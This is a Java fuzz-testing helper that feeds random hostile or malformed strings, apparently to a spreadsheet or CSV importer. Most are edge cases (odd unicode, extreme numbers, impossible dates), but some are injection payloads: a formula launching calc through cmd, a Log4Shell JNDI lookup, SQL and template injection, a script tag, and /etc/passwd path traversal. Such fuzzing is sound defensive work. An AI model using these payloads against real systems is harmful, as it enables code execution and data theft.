package org.sendwarehouse.fuzz;

import java.util.List;
import java.util.Random;

/** Values that somebody meant to do harm with, or that a machine made by mistake. */
final class HostileValues {
    private static final List<String> VALUES = List.of(
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "=HYPERLINK(\"http://x.invalid\",\"x\")",
            "\u0000",
            "a\u0000b",
            "\u0007",
            "a\u001bb[31m",
            "\u202eevil",
            "\u2066x\u2069",
            "\ufeff",
            "\u2028",
            "\ud800",
            "\ud835\udc12\ud835\udc26",
            "\u0661\u0662",
            "e\u0301".repeat(30),
            "\u00a0",
            "\u200b",
            "\ufffe",
            "1e400",
            "1e-400",
            "1e999999999",
            "1E-999999999",
            "-0",
            "0x10",
            "NaN",
            "Infinity",
            "1,2,3",
            "1.2.3",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "99999999999999999999999999",
            "1.00005",
            "0000-00-00",
            "9999-12-31",
            "2026-02-30",
            "0001-01-01",
            "31/12/99999",
            "1900-01-00",
            "2026-04-30T25:61:00",
            "29/02/2025",
            "45000",
            "-1",
            "12345678901234567890.123456789",
            "'; drop table x; --",
            "${jndi:ldap://x.invalid/a}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "&amp;&x;",
            "../../../etc/passwd",
            "file:///etc/passwd",
            "%n%n%s%s",
            "null",
            "NULL",
            "N/A",
            "z",
            "x",
            "c",
            "\"",
            "\"\"",
            "a\nb",
            "a\r\nb",
            "a,b",
            "a;b",
            "a\tb",
            "a|b",
            "#REF!",
            "TRUE",
            " ",
            "\u3000",
            "\u0130",
            "\u00df");

    private HostileValues() {}

    static String one(Random random) {
        int choice = random.nextInt(VALUES.size() + 4);
        return switch (choice - VALUES.size()) {
            case 0 -> "x".repeat(1 + random.nextInt(5_000));
            case 1 -> "9".repeat(1 + random.nextInt(2_000));
            case 2 -> noise(random, 1 + random.nextInt(40));
            case 3 -> "\"".repeat(random.nextInt(9));
            default -> VALUES.get(choice);
        };
    }

    /** Characters of every plane, unpaired halves among them. */
    private static String noise(Random random, int length) {
        StringBuilder noise = new StringBuilder();
        for (int i = 0; i < length; i++) {
            noise.append((char) random.nextInt(0x10000));
        }
        return noise.toString();
    }
}
